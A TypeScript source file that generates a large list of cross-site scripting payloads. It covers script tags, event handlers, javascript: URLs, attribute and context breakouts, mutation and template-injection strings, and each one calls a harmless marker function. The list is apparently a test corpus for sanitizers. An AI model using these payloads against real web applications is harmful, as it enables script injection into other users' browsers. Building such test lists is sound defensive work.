/** Texts that run where somebody takes text for a page, an attribute, an address, a style, a script or a template. */

const calls = ['ran(1)', 'ran`1`', 'top["ran"](1)', 'self.ran?.(1)', 'Function("ran(1)")()', 'setTimeout("ran(1)")']
const events = ['onerror', 'onload', 'onfocus', 'onmouseover', 'onanimationstart', 'ontoggle', 'onpointerenter', 'onbeforeinput']

const elements = (call: string) => [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `</script><script>${call}//`,
  `<img src=x onerror=${call}>`,
  `<img src=x onerror="${call.replaceAll('"', '&quot;')}">`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${call}>`,
  `<body onload=${call}>`,
  `<iframe srcdoc="<script>parent.${call.replaceAll('"', '&quot;')}</script>"></iframe>`,
  `<iframe src="javascript:parent.${call.replaceAll('"', '&quot;')}"></iframe>`,
  `<a href="javascript:${call.replaceAll('"', '&quot;')}">x</a>`,
  `<details open ontoggle=${call}>`,
  `<input autofocus onfocus=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<object data="javascript:${call.replaceAll('"', '&quot;')}">`,
  `<embed src="javascript:${call.replaceAll('"', '&quot;')}">`,
  `<form action="javascript:${call.replaceAll('"', '&quot;')}"><button>x</button></form>`,
  `<base href="javascript:/a/-${call.replaceAll('"', '&quot;')}//">`,
  `<meta http-equiv=refresh content="0;url=javascript:${call.replaceAll('"', '&quot;')}">`,
  `<style>@import "data:text/css,*{background:url('javascript:${call}')}";</style>`,
  `<link rel=stylesheet href="data:text/css,*{x:y}" onload=${call}>`,
  `<template><script>${call}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<textarea></textarea><img src=x onerror=${call}>`,
  `<!--><img src=x onerror=${call}>-->`,
  `<x contenteditable onbeforeinput=${call}>type</x>`,
]

const outOf = (call: string) => [
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `" autofocus onfocus=${call} x="`,
  `' onmouseover=${call} x='`,
  `\`-${call}-\``,
  `'-${call}-'`,
  `"-${call}-"`,
  `\\";${call};//`,
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `java\tscript:${call}`,
  `data:text/html,<script>${call}</script>`,
  `vbscript:${call}`,
  `{{constructor.constructor('${call.replaceAll("'", '"')}')()}}`,
  `\${${call}}`,
  `<%= ${call} %>`,
  `]]><script>${call}</script>`,
  `-->${call}<!--`,
  `</title><script>${call}</script>`,
  `</style><script>${call}</script>`,
  `\u2028${call}\u2029`,
]

export const scripts: readonly string[] = [
  ...calls.flatMap((call) => [...elements(call), ...outOf(call)]),
  ...events.map((event) => `<b ${event}=ran(1) style="animation:x 1s" tabindex=0 popover>x</b>`),
]
